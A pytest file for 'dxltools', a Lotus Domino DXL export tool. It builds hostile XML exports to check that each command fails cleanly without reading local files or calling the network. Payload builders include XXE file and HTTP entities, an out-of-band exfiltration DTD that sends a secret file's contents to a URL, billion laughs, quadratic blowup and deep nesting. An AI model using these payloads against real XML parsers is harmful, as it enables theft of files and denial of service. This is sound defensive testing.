"""Hostile and broken exports through the real commands: names.dxl with a
crafted DOCTYPE, entities, deep nesting, huge values, NUL bytes, bad UTF-8,
notes hidden in comments, and files that are not DXL at all.

Each case is a file the test builds. Every command (`run -i`, `show`,
`audit`, `validate`, `validate --dtd-dir`) must end in a clear error (exit 2,
one line naming file and line, the file untouched) or in correct output; never
in a hang, a traceback, a read of a local file or a network connection. Memory
is measured on the installed command for the expansion attacks and the huge
value.
"""

from __future__ import annotations

import gzip
import os
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Literal

import attrs
import pytest
from lxml import etree

from dxltools.agents import load_agent
from dxltools.rewrite.stream import rewrite_bytes
from tests.clitools import (
    BTEX_UNIDS,
    COEX,
    NAMES,
    SINGLE,
    error_line,
    expected,
    file_state,
    invoke,
)
from tests.hostile import (
    Listener,
    between_notes,
    billion_laughs,
    changed_notes,
    in_selected,
    in_unselected,
    measure,
    secret_file,
    unid_of,
    watchdog,
    with_doctype,
)
from tests.shared import timed

FUZZ = bool(os.environ.get("DXLTOOLS_FUZZ"))
MB = 1_000_000
HUGE_VALUE = 100 * MB if FUZZ else 24 * MB  # both over libxml2's default 10 MB text cap
DEEP = 100_000
COMMAND_TIMEOUT = 120.0

Outcome = Literal["ok", "error", "either"]


@attrs.frozen
class Env:
    """What a case may point at: a secret local file and a port nobody may call."""

    folder: Path
    secret: Path
    marker: str
    listener: Listener
    dtd_dir: Path

    @property
    def secret_url(self) -> bytes:
        return self.secret.as_uri().encode("ascii")

    def http(self, name: str) -> bytes:
        return self.listener.url(name).encode("ascii")


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    folder = tmp_path_factory.mktemp("hostile")
    secret, marker = secret_file(folder)
    # A DTD of the name the exports' DOCTYPE asks for, so that validate runs with
    # DTD loading on: the mode in which libxml2 would read external entities.
    dtd_dir = folder / "dtds"
    dtd_dir.mkdir()
    (dtd_dir / "domino_9_0_1.dtd").write_text("<!ELEMENT database ANY>\n", encoding="ascii")
    listener = Listener()
    yield Env(folder, secret, marker, listener, dtd_dir)
    listener.close()


Build = Callable[[bytes, Env], bytes]


_OUTCOMES: dict[str, Outcome] = {"o": "ok", "x": "error", "?": "either"}


@attrs.frozen
class Case:
    """A hostile export: `build` turns names.dxl into it. For a payload the agent
    never touches, `build` applied to the agent's result on names.dxl is the
    agent's result on the hostile file, which is what `run` must write.

    `outcomes`: one letter each for run, show, audit and validate: ``o`` correct
    output, ``x`` a clear error, ``?`` either."""

    name: str
    build: Build
    outcomes: str
    reason: str = ""  # what the error line of `run` must say

    def outcome(self, command: str) -> Outcome:
        index = ("run", "show", "audit", "validate").index(command)
        return _OUTCOMES[self.outcomes[index]]


def doctype(subset: Callable[[Env], bytes]) -> Callable[[bytes, Env], bytes]:
    def build(data: bytes, env: Env) -> bytes:
        return with_doctype(
            b"<!DOCTYPE database SYSTEM 'xmlschemas/domino_9_0_1.dtd' [" + subset(env) + b"]>",
            data,
        )

    return build


def xxe(url: Callable[[Env], bytes]) -> Callable[[Env], bytes]:
    return lambda env: b"<!ENTITY xxe SYSTEM '" + url(env) + b"'>"


def both(first: Build, second: Build) -> Build:
    return lambda data, env: second(first(data, env), env)


def selected(payload: bytes) -> Build:
    return lambda data, env: in_selected(payload, data)


def unselected(payload: bytes) -> Build:
    return lambda data, env: in_unselected(payload, data)


def top(payload: bytes) -> Build:
    return lambda data, env: between_notes(payload, data)


def replaced(old: bytes, new: bytes) -> Build:
    def build(data: bytes, env: Env) -> bytes:
        assert data.count(old) == 1
        return data.replace(old, new)

    return build


SECRET_FILE = xxe(lambda env: env.secret_url)
SECRET_HTTP = xxe(lambda env: env.http("secret"))
LAUGHS = doctype(lambda env: billion_laughs())
PERSON_TAG = b"<document form='Person'>\n<noteinfo noteid='950'"
DOMAIN_TAG = b"<document form='Domain'>\n<noteinfo noteid='e64'"
TEN_MB = b"y" * (10 * MB)
NESTED = b"<a>" * DEEP + b"</a>" * DEEP
A_DOMAIN_DOCUMENT = (
    b"<document form='Domain'><item name='DomainType'><text>ForeignDomain</text></item>"
    b"<item name='DomainName'><text>BTEx</text></item>"
    b"<item name='DocumentAccess' authors='true'><text>[NetModifier]</text></item></document>"
)

CASES = [
    # Entities: declared in the DOCTYPE, referenced in a note. A note is parsed
    # from its own bytes, without the DOCTYPE, so a reference is an undefined
    # entity there: refused in a note the agent reads, copied in one it skips.
    Case(
        "file entity, selected note",
        both(doctype(SECRET_FILE), selected(b"&xxe;")),
        "xxxo",
        "entity &xxe; is not defined where dxltools reads",
    ),
    Case("file entity, unselected note", both(doctype(SECRET_FILE), unselected(b"&xxe;")), "oxoo"),
    Case(
        "file entity in an attribute",
        both(doctype(SECRET_FILE), unselected(b"<break x='&xxe;'/>")),
        "oxox",
    ),
    Case(
        "http entity, selected note",
        both(doctype(SECRET_HTTP), selected(b"&xxe;")),
        "xxxo",
        "entity &xxe; is not defined where dxltools reads",
    ),
    Case("http entity, unselected note", both(doctype(SECRET_HTTP), unselected(b"&xxe;")), "oxoo"),
    Case(
        "file parameter entity",
        doctype(lambda env: b"<!ENTITY % pe SYSTEM '" + env.secret_url + b"'> %pe;"),
        "oooo",
    ),
    Case(
        "http parameter entity",
        doctype(lambda env: b"<!ENTITY % pe SYSTEM '" + env.http("pe") + b"'> %pe;"),
        "oooo",
    ),
    Case(
        "out-of-band exfiltration",
        doctype(
            lambda env: (
                b"<!ENTITY % file SYSTEM '" + env.secret_url + b"'>"
                b"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '" + env.http("?%file;") + b"'>\">"
                b"%wrap; %send;"
            )
        ),
        # A parameter entity reference inside a declaration of the internal
        # subset: not well-formed, and the DOCTYPE is checked by every command.
        "xxxx",
        "illegal parameter entity reference",
    ),
    Case(
        "external DTD URL",
        lambda data, env: with_doctype(
            b"<!DOCTYPE database SYSTEM '" + env.http("domino_9_0_1.dtd") + b"'>", data
        ),
        "oooo",
    ),
    Case(
        "DTD that is a local file",
        lambda data, env: with_doctype(
            b"<!DOCTYPE database SYSTEM '" + env.secret_url + b"'>", data
        ),
        "oooo",
    ),
    Case(
        "billion laughs, selected note",
        both(LAUGHS, selected(b"&lol9;")),
        "xxxx",
        "entity &lol9; is not defined where dxltools reads",
    ),
    Case("billion laughs, unselected note", both(LAUGHS, unselected(b"&lol9;")), "oxox"),
    Case(
        "quadratic blowup",
        both(
            doctype(lambda env: b"<!ENTITY big '" + b"x" * 100_000 + b"'>"),
            selected(b"&big;" * 10_000),
        ),
        "xxxx",
        "entity &big; is not defined where dxltools reads",
    ),
    # Nesting: libxml2 stops at 2048 levels; the splitter never recurses.
    Case(
        "100 000 nested elements, selected note",
        selected(NESTED),
        "xxxx",
        "(a limit of the XML parser)",
    ),
    Case("100 000 nested elements, unselected note", unselected(NESTED), "oxox"),
    Case("100 000 nested elements among the notes", top(NESTED), "ooox"),
    Case(
        "100 000 nested documents among the notes",
        top(b"<document form='Person'>" * DEEP + b"</document>" * DEEP),
        "oxox",
    ),
    # Size.
    Case("10 MB attribute, selected note", selected(b"<break x='" + TEN_MB + b"'/>"), "oooo"),
    Case("10 MB attribute, unselected note", unselected(b"<break x='" + TEN_MB + b"'/>"), "oooo"),
    Case(
        "10 MB attribute, selected start tag",
        replaced(DOMAIN_TAG, DOMAIN_TAG.replace(b"'>", b"' x='" + TEN_MB + b"'>", 1)),
        "oooo",
    ),
    Case(
        "10 MB attribute, unselected start tag",
        replaced(PERSON_TAG, b"<document x='" + TEN_MB + b"'" + PERSON_TAG[9:]),
        "oooo",
    ),
    Case(
        "10 MB attribute, root start tag",
        replaced(b"<database xmlns=", b"<database x='" + TEN_MB + b"' xmlns="),
        "oooo",
    ),
    # Bytes XML does not allow.
    Case("NUL byte, selected note", selected(b"\x00"), "xxxx", "Char 0x0"),
    Case("NUL byte, unselected note", unselected(b"\x00"), "oxox"),
    Case(
        "NUL byte, unselected start tag",
        replaced(PERSON_TAG, PERSON_TAG.replace(b"Person", b"Per\x00son")),
        "oxox",
    ),
    Case("NUL byte before the root", lambda data, env: b"\x00" + data, "xxxx"),
    Case(
        "invalid UTF-8, selected note",
        selected(b"\xff\xfe\xc3"),
        "xxxx",
        "Invalid bytes in character encoding",
    ),
    Case("invalid UTF-8, unselected note", unselected(b"\xff\xfe\xc3"), "oxox"),
    Case("UTF-8 surrogate, selected note", selected(b"\xed\xa0\x80"), "xxxx"),
    Case("overlong UTF-8 '<', selected note", selected(b"\xc0\xbc"), "xxxx"),
    Case(
        "invalid UTF-8, unselected start tag",
        replaced(PERSON_TAG, PERSON_TAG.replace(b"Person", b"Per\xffson")),
        # Skimming passes over plain ASCII start tags only: this one is walked
        # exactly, so the well-formedness check that every command runs sees it.
        "xxxx",
        "not well-formed (invalid token)",
    ),
    Case(
        "nonxmlchar beyond Unicode, selected note",
        selected(b"<nonxmlchar value='FFFFFFFFFFFFFFFF'/>"),
        "xxxo",
        "is not a hex code point",
    ),
    # A note start tag where no note starts.
    Case(
        "document in a comment among the notes",
        top(b"<!-- " + A_DOMAIN_DOCUMENT + b" -->\n"),
        "oooo",
    ),
    Case(
        "document in a comment, selected note",
        selected(b"<!-- </document>" + A_DOMAIN_DOCUMENT + b" -->"),
        "oooo",
    ),
    Case(
        "document in a comment, unselected note",
        unselected(b"<!-- </document>" + A_DOMAIN_DOCUMENT + b" -->"),
        "oooo",
    ),
    Case(
        "document in CDATA among the notes",
        top(b"<![CDATA[" + A_DOMAIN_DOCUMENT + b"]]>\n"),
        "oooo",
    ),
    Case(
        "document in CDATA, selected note",
        selected(b"<![CDATA[</document>" + A_DOMAIN_DOCUMENT + b"]]>"),
        "oooo",
    ),
    Case(
        "document in CDATA, unselected note",
        unselected(b"<![CDATA[</document>" + A_DOMAIN_DOCUMENT + b"]]>"),
        "oooo",
    ),
    Case("document in a PI among the notes", top(b"<?x " + A_DOMAIN_DOCUMENT + b" ?>\n"), "oooo"),
    Case(
        "document in a PI, unselected note",
        unselected(b"<?x </document>" + A_DOMAIN_DOCUMENT + b" ?>"),
        "oooo",
    ),
    Case(
        "document in the DOCTYPE",
        doctype(lambda env: b"<!-- " + A_DOMAIN_DOCUMENT + b" -->"),
        "oooo",
    ),
    # Not DXL at all.
    Case(
        "HTML",
        lambda data, env: (
            b"<!DOCTYPE html>\n<html><body>" + A_DOMAIN_DOCUMENT + b"</body></html>\n"
        ),
        "xxxx",
        "not a DXL export",
    ),
    Case(
        "another namespace",
        replaced(b"xmlns='http://www.lotus.com/dxl'", b"xmlns='urn:example:other'"),
        "xxxx",
        "not a DXL export",
    ),
    Case("empty file", lambda data, env: b"", "xxxx", "empty input"),
    Case("XML declaration only", lambda data, env: data[: data.index(b"?>") + 3], "xxxx"),
    Case(
        "gzip-compressed export", lambda data, env: gzip.compress(data, mtime=0), "xxxx", "not XML"
    ),
    Case("truncated export", lambda data, env: data[:20_000], "xxxx", "truncated"),
]


def _check_error(lines: str, path: Path, prefix: str = "dxltools: ") -> None:
    """One line naming the file and a line number."""
    assert re.match(re.escape(f"{prefix}{path}:") + r"\d+(:\d+)?: \S", lines), lines


def _check_no_leak(env: Env, *outputs: str | bytes) -> None:
    for output in outputs:
        text = output.decode("utf-8", "replace") if isinstance(output, bytes) else output
        assert env.marker not in text, "a crafted export made dxltools read a local file"
    assert env.listener.connections() == 0, "a crafted export made dxltools use the network"


def _hostile_file(case: Case, env: Env, folder: Path) -> tuple[Path, bytes]:
    data = case.build(NAMES.read_bytes(), env)
    path = folder / "names.dxl"
    path.write_bytes(data)
    return path, data


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_run_in_place_ends_in_correct_output_or_a_clear_error(
    case: Case, env: Env, tmp_path: Path
) -> None:
    path, _ = _hostile_file(case, env, tmp_path)
    before = file_state(path)
    with watchdog(COMMAND_TIMEOUT):
        result = invoke([*COEX, "-i", "-q", str(path)])
    after = path.read_bytes()
    _check_no_leak(env, result.stdout, result.stderr, after)
    if result.exit_code == 2 and case.outcome("run") in ("error", "either"):
        line = error_line(result.stderr)
        _check_error(line, path)
        assert case.reason in line
        assert file_state(path) == before
        return
    assert case.outcome("run") in ("ok", "either"), (
        f"expected an error, got exit {result.exit_code}"
    )
    assert result.exit_code == 0, result.stderr
    assert after == case.build(expected(NAMES), env)


@pytest.mark.parametrize("command", ["show", "audit"])
@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_show_and_audit_end_in_their_report_or_a_clear_error(
    case: Case, command: str, env: Env, tmp_path: Path
) -> None:
    path, _ = _hostile_file(case, env, tmp_path)
    with watchdog(COMMAND_TIMEOUT):
        result = invoke([command, str(path)])
        clean = invoke([command, str(NAMES)])
    _check_no_leak(env, result.stdout, result.stderr)
    outcome = case.outcome(command)
    if result.exit_code == 2 and outcome in ("error", "either"):
        _check_error(error_line(result.stderr), path)
        return
    assert outcome in ("ok", "either"), f"expected an error, got exit {result.exit_code}"
    assert (result.exit_code, result.stderr) == (clean.exit_code, "")
    assert len(result.stdout.splitlines()) == len(clean.stdout.splitlines())


@pytest.mark.parametrize("with_dtds", [False, True], ids=["no DTD", "--dtd-dir"])
@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_validate_reports_the_file_or_its_fatal_problem(
    case: Case, with_dtds: bool, env: Env, tmp_path: Path
) -> None:
    path, _ = _hostile_file(case, env, tmp_path)
    dtds = ["--dtd-dir", str(env.dtd_dir)] if with_dtds else []
    with watchdog(COMMAND_TIMEOUT):
        result = invoke(["validate", *dtds, str(path)])
    _check_no_leak(env, result.stdout, result.stderr)
    assert "Traceback" not in result.stdout + result.stderr
    if with_dtds:  # the stand-in DTD declares <database> only: every file is invalid
        assert result.exit_code in (1, 2)
        return
    if case.outcome("validate") == "error":
        assert result.exit_code == 2, result.stdout
        assert result.stdout == ""  # a fatal problem is an error line on stderr
        _check_error(result.stderr, path)
    else:
        assert result.exit_code == 0, result.stdout


def test_a_declared_entity_is_well_formed_but_not_read(tmp_path: Path) -> None:
    # A harmless entity, declared in the internal subset and used in a Foreign
    # Domain document: XML says the file is well-formed, and validate agrees; the
    # commands that read the note say why they stop, without "not well-formed".
    data = (
        SINGLE.read_bytes()
        .replace(
            b"'xmlschemas/domino_9_0_1.dtd'>",
            b"'xmlschemas/domino_9_0_1.dtd' [<!ENTITY co 'Acme'>]>",
        )
        .replace(b"(mail &amp; free/busy)", b"(mail &co; free/busy)")
    )
    assert data.count(b"&co;") == 1 and data.count(b"<!ENTITY") == 1
    path = tmp_path / "single.dxl"
    path.write_bytes(data)
    line = data[: data.index(b"&co;")].count(b"\n") + 1
    message = (
        f"dxltools: {path}:{line}: entity &co; is not defined where dxltools reads: it reads "
        "no entity declarations, in the DOCTYPE or a DTD (Domino writes none); write its "
        "text instead"
    )
    for command in (["run", "remove-document-access", "-i"], ["audit"], ["show"]):
        result = invoke([*command, str(path)])
        assert (result.exit_code, error_line(result.stderr)) == (2, message), command
    assert path.read_bytes() == data
    assert invoke(["validate", str(path)]).exit_code == 0


# -- a note where no note may be ----------------------------------------------------------

NESTED_DOMAIN = unselected(A_DOMAIN_DOCUMENT)


def test_a_document_inside_another_is_never_edited(env: Env, tmp_path: Path) -> None:
    path, data = _hostile_file(Case("nested", NESTED_DOMAIN, "oooo"), env, tmp_path)
    result = invoke(["run", "remove-document-access", "-i", str(path)])
    # Read as a Person document's content, passed over whole: the run goes on.
    assert result.exit_code == 0, result.stderr
    changed = changed_notes(data, path.read_bytes())
    assert {unid_of(new) for _, _, new in changed} == set(BTEX_UNIDS)


def test_a_document_inside_another_is_not_audited(env: Env, tmp_path: Path) -> None:
    path, _ = _hostile_file(Case("nested", NESTED_DOMAIN, "oooo"), env, tmp_path)
    result = invoke(["audit", str(path)])
    # The two BTEx documents of names.dxl and their problems (exit 1), not a third.
    assert result.exit_code == 1, result.stderr
    assert result.stdout.startswith("BTEx: 2 documents"), result.stdout


# -- memory: expansion never happens -------------------------------------------------------


@pytest.fixture(scope="module")
def baseline_mb(tmp_path_factory: pytest.TempPathFactory) -> float:
    """The peak memory of the command on names.dxl."""
    folder = tmp_path_factory.mktemp("baseline")
    target = folder / "names.dxl"
    target.write_bytes(NAMES.read_bytes())
    return measure([*COEX, "-i", str(target)], folder, COMMAND_TIMEOUT).peak_mb


EXPANSIONS = {
    "billion laughs": both(LAUGHS, selected(b"&lol9;")),
    "billion laughs in an attribute": both(LAUGHS, unselected(b"<break x='&lol9;'/>")),
    "quadratic blowup": next(case.build for case in CASES if case.name == "quadratic blowup"),
}
EXPANDING_COMMANDS = {
    "run -i": [*COEX, "-i"],
    "show": ["show"],
    "audit": ["audit"],
    "validate --dtd-dir": ["validate", "--dtd-dir"],
}


@pytest.mark.parametrize("command", EXPANDING_COMMANDS, ids=str)
@pytest.mark.parametrize("attack", EXPANSIONS, ids=str)
def test_entity_expansion_never_grows_memory(
    attack: str, command: str, env: Env, tmp_path: Path, baseline_mb: float
) -> None:
    path, _ = _hostile_file(Case(attack, EXPANSIONS[attack], "xxxx"), env, tmp_path)
    args = list(EXPANDING_COMMANDS[command])
    if args[-1] == "--dtd-dir":
        args.append(str(env.dtd_dir))
    found = measure([*args, str(path)], tmp_path, COMMAND_TIMEOUT)
    assert found.status in (0, 1, 2), found.stderr
    assert "Traceback" not in found.stderr
    # Expanded, the billion laughs is 3 GB; the 100 KB x 10 000 blowup 1 GB.
    assert found.peak_mb < baseline_mb + 64, f"{found.peak_mb:.0f} MB at the peak"


# -- a huge text value ---------------------------------------------------------------------


def _huge_export(
    folder: Path, where: Callable[[bytes, bytes | None], bytes]
) -> tuple[Path, bytes, bytes]:
    """names.dxl with a HUGE_VALUE-byte text value, written without holding it
    in memory; returns the file and the bytes before and after the value."""
    marker = b"\x01dxltools-huge\x01"
    head, tail = where(marker, NAMES.read_bytes()).split(marker)
    path = folder / "names.dxl"
    with path.open("wb") as stream:
        stream.write(head)
        for _ in range(HUGE_VALUE // MB):
            stream.write(b"x" * MB)
        stream.write(tail)
    new_head, new_tail = where(marker, expected(NAMES)).split(marker)
    return path, new_head, new_tail


def _is_huge_result(path: Path, head: bytes, tail: bytes) -> bool:
    """The file holds `head`, HUGE_VALUE 'x's and `tail`, compared a chunk at a time."""
    if path.stat().st_size != len(head) + HUGE_VALUE + len(tail):
        return False
    with path.open("rb") as stream:
        if stream.read(len(head)) != head:
            return False
        for _ in range(HUGE_VALUE // MB):
            if stream.read(MB) != b"x" * MB:
                return False
        return stream.read() == tail


@pytest.mark.parametrize(
    "where", [in_selected, in_unselected], ids=["selected note", "unselected note"]
)
def test_a_huge_text_value_is_rewritten_in_bounded_memory(
    where: Callable[[bytes, bytes | None], bytes], tmp_path: Path, baseline_mb: float
) -> None:
    path, head, tail = _huge_export(tmp_path, where)
    found = measure([*COEX, "-i", str(path)], tmp_path, COMMAND_TIMEOUT)
    assert found.status == 0, found.stderr
    assert _is_huge_result(path, head, tail)
    # The note is held a few times over (its bytes, lxml's tree, the value as a
    # str, the re-parse that verifies it): about 9x for a note of one value.
    assert found.peak_mb < baseline_mb + 12 * HUGE_VALUE / MB, f"{found.peak_mb:.0f} MB"


@timed
def test_a_large_note_the_agent_skips_costs_time_in_proportion_to_its_size() -> None:
    # Linear: 4x the time for 4x the size; the quadratic walk takes 9x here.
    small, large = _seconds(in_unselected(b"x" * 6 * MB)), _seconds(in_unselected(b"x" * 24 * MB))
    assert large < 6 * small + 0.05, f"6 MB: {small:.3f} s, 24 MB: {large:.3f} s"


# -- very long lines -----------------------------------------------------------------------


def _one_line(persons: int) -> bytes:
    """names.dxl with `persons` more Person documents, all on one line."""
    data = NAMES.read_bytes()
    person = re.search(rb"<document form='Person'>.*?</document>\n", data, re.DOTALL)
    assert person is not None
    end = data.rindex(b"</database>")
    return (data[:end] + person.group(0) * persons + data[end:]).replace(b"\n", b" ")


def test_an_export_on_one_line_is_rewritten_note_by_note(tmp_path: Path) -> None:
    data = _one_line(5_000)
    path = tmp_path / "names.dxl"
    path.write_bytes(data)
    with watchdog(COMMAND_TIMEOUT):
        result = invoke([*COEX, "-i", str(path)])
    assert result.exit_code == 0, result.stderr
    changed = changed_notes(data, path.read_bytes())
    assert {unid_of(old) for _, old, _ in changed} == set(BTEX_UNIDS)


def test_an_error_far_along_one_line_names_line_1_and_its_column(tmp_path: Path) -> None:
    data = _one_line(5_000)
    cut = data.rindex(b"<document")
    path = tmp_path / "names.dxl"
    path.write_bytes(data[:cut] + b"<document form='Person'")
    result = invoke([*COEX, "-i", str(path)])
    assert result.exit_code == 2
    # The exact walk's error (skimming hands the unfinished tag over to it): the
    # column where the tag's attributes start, just after `<document`.
    column = cut + 1 + len(b"<document")
    assert f"{path}:1:{column}: truncated input: a tag is never closed" in error_line(result.stderr)


# -- duplicates and size: handled, in time proportional to size -------------------------------

BTEX_DOCUMENT = re.compile(
    rb"<document form='Domain'>(?:(?!</document>).)*?BTEx.*?</document>\n", re.DOTALL
)
AGENT = load_agent("coexistence-readers", {"servers_group": "AcmeMailServers"})


def _seconds(data: bytes) -> float:
    """The better of two in-memory runs of the agent on `data`."""
    best = float("inf")
    for _ in range(2):
        run = AGENT.start()
        start = time.perf_counter()
        result = rewrite_bytes(data, run.edit, select=run.wants)
        best = min(best, time.perf_counter() - start)
        assert result.report.changed
    return best


def _linear(build: Callable[[int], bytes], size: int) -> None:
    """4x the size may take 4x the time; 8x (and 50 ms of noise) is allowed, 16x is not."""
    small, large = _seconds(build(size)), _seconds(build(4 * size))
    assert large < 8 * small + 0.05, f"n: {small:.3f} s, 4n: {large:.3f} s"


def _with_btex_copies(copies: int) -> bytes:
    """names.dxl with `copies` more copies of a BTEx document: one UNID many times."""
    data = NAMES.read_bytes()
    found = BTEX_DOCUMENT.search(data)
    assert found is not None
    end = data.rindex(b"</database>")
    return data[:end] + found.group(0) * copies + data[end:]


def _with_items(count: int, per_item: Callable[[int], bytes]) -> bytes:
    """names.dxl whose first BTEx document holds `count` more items."""
    return in_selected(b"", NAMES.read_bytes()).replace(
        b"<item name='Description'><text>Exchange coexistence via \"DominoCoex1\"",
        b"".join(per_item(n) for n in range(count))
        + b"<item name='Description'><text>Exchange coexistence via \"DominoCoex1\"",
    )


def test_duplicate_unids_are_all_edited_and_validate_reports_them(tmp_path: Path) -> None:
    path = tmp_path / "names.dxl"
    path.write_bytes(_with_btex_copies(3))
    result = invoke([*COEX, "-i", str(path)])
    assert result.exit_code == 0, result.stderr
    assert "changed 5 of 21 notes" in result.stderr
    edited = BTEX_DOCUMENT.findall(path.read_bytes())
    assert len({edited[0], *edited[2:]}) == 1  # every copy edited alike
    assert all(b"DocumentAccess" not in note and b"$Readers" in note for note in edited)
    report = invoke(["validate", str(path)])
    assert report.exit_code == 1
    assert report.stdout.count("duplicate-unid") == 3


@timed
def test_duplicate_unids_cost_time_in_proportion() -> None:
    _linear(_with_btex_copies, 500)


def test_a_document_with_10_000_items_is_edited(tmp_path: Path) -> None:
    path = tmp_path / "names.dxl"
    path.write_bytes(
        _with_items(10_000, lambda n: b"<item name='Extra%d'><text>%d</text></item>\n" % (n, n))
    )
    result = invoke([*COEX, "-i", str(path)])
    assert result.exit_code == 0, result.stderr
    (edited, _) = BTEX_DOCUMENT.findall(path.read_bytes())
    assert edited.count(b"<item name='Extra") == 10_000
    assert b"DocumentAccess" not in edited and b"<item name='$Readers'" in edited


@timed
def test_items_cost_time_in_proportion() -> None:
    _linear(
        lambda n: _with_items(
            n, lambda i: b"<item name='Extra%d'><text>%d</text></item>\n" % (i, i)
        ),
        10_000,
    )


def _many_values(count: int) -> bytes:
    values = b"".join(b"<text>CN=Server%d/O=Acme</text>" % n for n in range(count))
    return _with_items(
        1, lambda _: b"<item name='Servers'><textlist>" + values + b"</textlist></item>\n"
    )


def test_an_item_with_100_000_values_is_kept_byte_for_byte(tmp_path: Path) -> None:
    path = tmp_path / "names.dxl"
    data = _many_values(100_000)
    path.write_bytes(data)
    result = invoke([*COEX, "-i", str(path)])
    assert result.exit_code == 0, result.stderr
    item = re.compile(rb"<item name='Servers'>.*?</item>", re.DOTALL)
    old, new = item.search(data), item.search(path.read_bytes())
    assert old is not None and new is not None and old.group(0) == new.group(0)
    shown = invoke(["show", str(path)])
    assert shown.exit_code == 0, shown.stderr


@timed
def test_values_cost_time_in_proportion() -> None:
    _linear(_many_values, 25_000)


def test_the_file_entity_attack_is_real(env: Env) -> None:
    """The check above can fail: a parser that resolves entities, given these
    files, reads the secret."""
    case = next(case for case in CASES if case.name == "file entity, selected note")
    unsafe = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=True)
    parsed = etree.fromstring(case.build(NAMES.read_bytes(), env), unsafe)
    assert env.marker in etree.tostring(parsed, encoding="unicode")
